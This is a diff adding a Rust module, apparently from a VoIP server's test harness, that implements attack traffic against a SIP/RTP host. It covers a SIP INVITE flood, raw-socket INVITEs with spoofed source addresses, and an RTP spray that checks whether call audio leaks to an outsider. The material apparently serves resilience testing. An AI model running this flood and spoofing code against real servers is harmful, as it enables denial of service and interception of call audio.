@@ -1,0 +1,135 @@
+//! The attacker.
+
+use std::net::{Ipv4Addr, SocketAddr, UdpSocket};
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::thread::JoinHandle;
+use std::time::{Duration, Instant};
+
+use socket2::{Domain, Protocol, Socket, Type};
+
+use crate::branch::PORTS;
+use crate::sound::THEIRS;
+
+const INVITES: u64 = 5_000;
+const PACKETS: u64 = 10_000;
+const STRANGER: [u8; 4] = [203, 0, 113, 66];
+const BOX: [u8; 4] = [192, 0, 2, 1];
+
+/// What is sent.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Kind {
+    /// INVITEs from one address.
+    OneSource,
+    /// INVITEs from 198.18.0.0/16 (RFC 2544), forged.
+    Spoofed,
+    /// RTP from one address to every port.
+    Spray,
+}
+
+impl Kind {
+    pub fn name(self) -> &'static str {
+        match self {
+            Kind::OneSource => "one-source",
+            Kind::Spoofed => "spoofed",
+            Kind::Spray => "rtp-spray",
+        }
+    }
+}
+
+/// An attack that goes on.
+pub struct Attack(JoinHandle<(u64, u64)>);
+
+impl Attack {
+    pub fn start(kind: Kind, going: Arc<AtomicBool>, busy: Vec<u16>) -> Attack {
+        Attack(std::thread::spawn(move || run(kind, &going, &busy)))
+    }
+
+    /// Ends it. Answers how many packets were sent, and how many with sound the stranger got.
+    pub fn stop(self, going: &AtomicBool) -> (u64, u64) {
+        going.store(false, Ordering::Relaxed);
+        self.0.join().expect("it ends")
+    }
+}
+
+fn run(kind: Kind, going: &AtomicBool, busy: &[u16]) -> (u64, u64) {
+    let own = UdpSocket::bind(SocketAddr::from((STRANGER, 5_060))).expect("an address");
+    own.set_nonblocking(true).expect("no waiting");
+    let raw = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::UDP)).expect("root");
+    raw.set_header_included_v4(true).expect("a raw socket");
+    let rate = if kind == Kind::Spray { PACKETS } else { INVITES };
+    let began = Instant::now();
+    let (mut sent, mut got) = (0, 0);
+    let mut buffer = [0; 65_536];
+    while going.load(Ordering::Relaxed) {
+        let due = (began.elapsed().as_secs_f64() * rate as f64) as u64;
+        while sent < due {
+            send(kind, sent, &own, &raw, busy);
+            sent += 1;
+        }
+        while let Ok((length, _)) = own.recv_from(&mut buffer) {
+            got += u64::from(length > 12 && buffer[0] >> 6 == 2);
+        }
+        std::thread::sleep(Duration::from_micros(200));
+    }
+    (sent, got)
+}
+
+fn send(kind: Kind, number: u64, own: &UdpSocket, raw: &Socket, busy: &[u16]) {
+    match kind {
+        Kind::OneSource => {
+            let _ =
+                own.send_to(invite(STRANGER, number).as_bytes(), SocketAddr::from((BOX, 5_060)));
+        }
+        Kind::Spoofed => {
+            // All of the network, in an order that no cache can follow.
+            let host = (number.wrapping_mul(40_503) & 0xffff) as u16;
+            let [a, b] = host.to_be_bytes();
+            let source = [198, 18, a, b];
+            let packet = datagram(source, invite(source, number).as_bytes());
+            let _ = raw.send_to(&packet, &SocketAddr::from((BOX, 0)).into());
+        }
+        Kind::Spray => {
+            // Every second packet to a port that has a call, the others to all in turn.
+            let all = PORTS.len() as u64;
+            let port = match busy.get(number as usize / 2 % busy.len().max(1)) {
+                Some(port) if number.is_multiple_of(2) => *port,
+                _ => PORTS.start() + (number / 2 % all) as u16,
+            };
+            let mut packet = [THEIRS; 172];
+            packet[0] = 0x80;
+            packet[1] = 0;
+            packet[2..4].copy_from_slice(&(number as u16).to_be_bytes());
+            let _ = own.send_to(&packet, SocketAddr::from((BOX, port)));
+        }
+    }
+}
+
+fn invite(source: [u8; 4], number: u64) -> String {
+    let at = Ipv4Addr::from(source);
+    let body = crate::message::sdp(SocketAddr::from((source, 4_000)));
+    let user = 100 + number % 9_000;
+    format!(
+        "INVITE sip:{user}@192.0.2.1 SIP/2.0\r\nVia: SIP/2.0/UDP {at}:5060;branch=z9hG4bKf{number};rport\r\n\
+         From: <sip:{user}@192.0.2.1>;tag=f{number}\r\nTo: <sip:2000@192.0.2.1>\r\nCall-ID: flood{number}@{at}\r\n\
+         CSeq: 1 INVITE\r\nMax-Forwards: 70\r\nContact: <sip:{user}@{at}:5060>\r\nContent-Type: application/sdp\r\n\
+         Content-Length: {}\r\n\r\n{body}",
+        body.len()
+    )
+}
+
+/// IPv4 and UDP headers around `payload`; a UDP checksum of zero is none (RFC 768), and the kernel fills in the other.
+fn datagram(source: [u8; 4], payload: &[u8]) -> Vec<u8> {
+    let total = (28 + payload.len()) as u16;
+    let mut packet = vec![0x45, 0];
+    packet.extend(total.to_be_bytes());
+    packet.extend([0, 0, 0, 0, 64, 17, 0, 0]);
+    packet.extend(source);
+    packet.extend(BOX);
+    packet.extend(5_060_u16.to_be_bytes());
+    packet.extend(5_060_u16.to_be_bytes());
+    packet.extend((total - 20).to_be_bytes());
+    packet.extend([0, 0]);
+    packet.extend(payload);
+    packet
+}
